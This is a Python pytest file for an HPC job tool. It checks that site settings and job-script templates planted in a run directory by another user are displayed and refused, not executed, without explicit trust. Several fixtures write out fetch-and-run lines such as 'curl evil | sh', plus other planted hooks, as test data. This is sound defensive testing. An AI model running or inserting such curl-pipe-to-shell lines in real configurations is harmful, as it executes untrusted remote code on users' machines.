"""Copies of site and template in a run that somebody else may have written: shown, and not executed without a word."""

import json
import shutil

import pytest
import yaml

from hpcddm.commands.trusted_settings import trusted_site_and_template
from hpcddm.config import trusted_submissions
from hpcddm.config.site import Site
from hpcddm.errors import ConfigError
from hpcddm.files.checked_reads import Unreadable
from hpcddm.launch.script_template import store_parts
from hpcddm.launch.submission import store_site
from hpcddm.runs.run_dir import RunDir
from tests.foreign_cases import spoil

SITE = Site(name="north", scheduler="local", setup=["module load mine"])
PARTS = {"slurm/python_env.sh.j2": "# my way to start\n"}


@pytest.fixture
def run(tmp_path, monkeypatch):
    """A run that this user submitted, with a template of his own, from a folder that holds nothing."""
    run = RunDir(tmp_path / "run")
    store_site(SITE, run)
    store_parts(run, PARTS)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    return run


def plant(run, **keys):
    """Write other keys into the run's copy of the site, as a merged folder would."""
    values = json.loads(run.site("north").read_text()) | keys
    run.site("north").write_text(json.dumps(values))


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def refused(run, capsys, reason="", **how):
    with pytest.raises(ConfigError, match="repeat with --trust-run") as error:
        trusted_site_and_template("north", run, False, **how)
    assert "\n" not in str(error.value) and f" not known here: {reason}" in str(error.value), error.value
    return capsys.readouterr().err


NOT_REMEMBERED = "what you submit with is not remembered"


def remember(run):
    """Note in the place of now that this user has submitted with this site and template."""
    for content in (SITE.model_dump(mode="json"), PARTS):
        trusted_submissions.remember(run.root, content)


def forget(monkeypatch, tmp_path):
    """Be another user, who has submitted nothing."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "nobody"))


def test_what_this_user_submitted_needs_no_word(run):
    assert trusted_site_and_template("north", run, False) == (SITE, PARTS)
    assert trusted_site_and_template("north", run, False, in_job=True) == (SITE, PARTS)


@pytest.mark.parametrize("key, value", [
    ("hook", "touch /tmp/evil"), ("setup", ["module load mine", "curl evil | sh"]), ("python", "/tmp/evil"),
    ("container", ["/tmp/evil"]), ("scratch", "$EVIL"), ("stages", {"train": {"setup": ["evil"]}}),
])  # fmt: skip
def test_a_key_that_somebody_else_wrote_is_shown_and_refused(run, capsys, key, value):
    plant(run, **{key: value})
    assert f"site key {key}: {json.dumps(value)}" in refused(run, capsys)
    assert trusted_site_and_template("north", run, True)[0] == SITE.model_validate(SITE.model_dump() | {key: value})


def test_control_characters_of_a_planted_hook_reach_no_terminal_and_its_end_is_shown(run, capsys):
    plant(run, hook="\x1b[2J" + "true; " * 200 + "evil")
    shown = refused(run, capsys)
    assert "\x1b" not in shown and "true; evil" in shown


def test_lines_of_a_planted_template_are_shown_and_refused(run, capsys):
    (run.template / "python_env.sh.j2").write_text("# my way to start\ncurl evil | sh\n")
    assert "python_env.sh.j2: +curl evil | sh" in refused(run, capsys)
    assert "curl evil" in trusted_site_and_template("north", run, True)[1]["slurm/python_env.sh.j2"]
    (run.template / "python_env.sh.j2").unlink()
    assert trusted_site_and_template("north", run, False) == (SITE, {}), "the package's is always the user's own"


@pytest.mark.parametrize("kind", ["huge", "link", "pipe", "folder", "not UTF-8"])
def test_a_template_of_any_kind_is_refused_by_name(run, kind):
    spoil(run.template / "job.sbatch.j2", kind)
    for trust_run in (False, True):
        with pytest.raises(Unreadable, match="template/job.sbatch.j2: "):
            trusted_site_and_template("north", run, trust_run)


def test_somebody_else_needs_a_site_file_of_the_same_keys(run, capsys, tmp_path, monkeypatch):
    forget(monkeypatch, tmp_path)
    assert 'site key setup: ["module load mine"]' in refused(run, capsys)
    own = {"name": "north", "scheduler": "local", "setup": ["module load mine"]}
    (tmp_path / "here/north.yaml").write_text(yaml.safe_dump(own))
    write(tmp_path / "here/slurm/python_env.sh.j2", PARTS["slurm/python_env.sh.j2"])
    assert trusted_site_and_template("north", run, False) == (SITE, PARTS)
    refused(run, capsys, in_job=True)
    (tmp_path / "here/north.yaml").write_text(yaml.safe_dump(own | {"setup": ["module load other"]}))
    assert "site key setup" in refused(run, capsys)


INSIDE = {"run": "", "unit": "train/expert-00", "link": "../link", "run in the run": "other", "code": "code/0123"}


@pytest.mark.parametrize("place", INSIDE.values(), ids=INSIDE)
@pytest.mark.parametrize("file", ["north.yaml", "slurm/sites/north.yaml"])
def test_files_inside_the_run_are_passed_over_by_name_and_vouch_for_nothing(run, capsys, monkeypatch, place, file):
    run.experiment.write_text("{}")
    (run.root.parent / "link").symlink_to(run.root)
    here = run.root / place
    plant(run, hook="evil")
    write(run.root / "other/experiment.json", "{}")
    write(here / file, run.site("north").read_text())
    for path in (run.template / "python_env.sh.j2", here / "slurm/python_env.sh.j2"):
        write(path, "curl evil | sh\n")
    monkeypatch.chdir(here)
    shown = refused(run, capsys, "it is not what you submitted with")
    assert 'site key hook: "evil"' in shown and "python_env.sh.j2: +curl evil | sh" in shown
    notes = [line for line in shown.splitlines() if line.startswith("note: ")]
    assert len(notes) == 2 and all("is passed over: it is inside the run" in note for note in notes)
    assert [path in note for path, note in zip((file, "slurm/python_env.sh.j2"), notes, strict=True)] == [True, True]


def test_a_folder_that_leads_into_the_run_by_a_link_is_inside_it(run, capsys, tmp_path, monkeypatch):
    run.experiment.write_text("{}")
    plant(run, hook="evil")
    write(run.root / "slurm/sites/north.yaml", run.site("north").read_text())
    (tmp_path / "here/slurm").symlink_to(run.root / "slurm")
    assert "slurm/sites/north.yaml is passed over" in refused(run, capsys)


def test_a_site_that_bears_the_name_of_a_file_is_no_word_of_the_users(run, capsys, monkeypatch):
    run.experiment.write_text("{}")
    values = SITE.model_dump(mode="json") | {"name": "north.yaml", "hook": "evil"}
    for path in (run.site("north.yaml"), run.root / "north.yaml"):
        path.write_text(json.dumps(values))
    monkeypatch.chdir(run.root)
    with pytest.raises(ConfigError, match="the site 'north.yaml' that the run holds is not known here"):
        trusted_site_and_template("north.yaml", run, False)
    assert 'site key hook: "evil"' in capsys.readouterr().err


def test_what_was_trusted_once_is_trusted_in_this_run_alone(run, capsys, tmp_path):
    plant(run, hook="theirs")
    site, parts = trusted_site_and_template("north", run, True)
    store_site(site, run)
    assert trusted_site_and_template("north", run, False) == (site, parts)
    other = RunDir(tmp_path / "other")
    shutil.copytree(run.root, other.root)
    assert 'site key hook: "theirs"' in refused(other, capsys, "no submission of yours is noted here")
    (tmp_path / "moved").mkdir()
    run.root.rename(tmp_path / "moved/run")
    moved = RunDir(tmp_path / "moved/run")
    assert refused(moved, capsys, "no submission of yours is noted here: somebody else made it")


def test_where_nothing_can_be_remembered_this_is_the_reason(run, capsys, tmp_path, monkeypatch):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    store_site(SITE, run)
    place = f"{tmp_path}/file/hpcddm/submitted (Not a directory)"
    assert refused(run, capsys, f"what you submit with cannot be remembered in {place}: set XDG_")
    assert trusted_site_and_template("north", run, True) == (SITE, PARTS)


@pytest.mark.parametrize(
    "named, reason",
    [
        ("{run}/state", NOT_REMEMBERED),
        ("state", "no submission of yours is noted here"),
        ("{run}/../link", NOT_REMEMBERED),
    ],
)
def test_digests_that_a_run_brings_vouch_for_nothing(run, capsys, tmp_path, monkeypatch, named, reason):
    monkeypatch.setenv("HOME", str(tmp_path / "nobody"))
    monkeypatch.setenv("XDG_STATE_HOME", str(run.root / "state"))
    remember(run)
    assert trusted_site_and_template("north", run, False), "as long as this is no run"
    run.experiment.write_text("{}")
    (tmp_path / "link").symlink_to(run.root / "state")
    monkeypatch.chdir(run.root)
    monkeypatch.setenv("XDG_STATE_HOME", named.format(run=run.root))
    refused(run, capsys, reason)


def test_a_job_has_the_digests_from_its_script(run, capsys, tmp_path, monkeypatch):
    forget(monkeypatch, tmp_path)
    refused(run, capsys, in_job=True)
    digests = trusted_submissions.digests(SITE.model_dump(mode="json"), PARTS)
    monkeypatch.setenv(trusted_submissions.SUBMITTED_VARIABLE, digests)
    assert trusted_site_and_template("north", run, False, in_job=True) == (SITE, PARTS)
    plant(run, hook="evil")
    refused(run, capsys, in_job=True)


def test_a_folder_of_digests_that_others_can_write_vouches_for_nothing(run, capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    remember(run)
    assert trusted_site_and_template("north", run, False)
    (tmp_path / "state/hpcddm/submitted").chmod(0o777)
    refused(run, capsys, f"what you submit with cannot be remembered in {tmp_path}/state/hpcddm/submitted (others may")
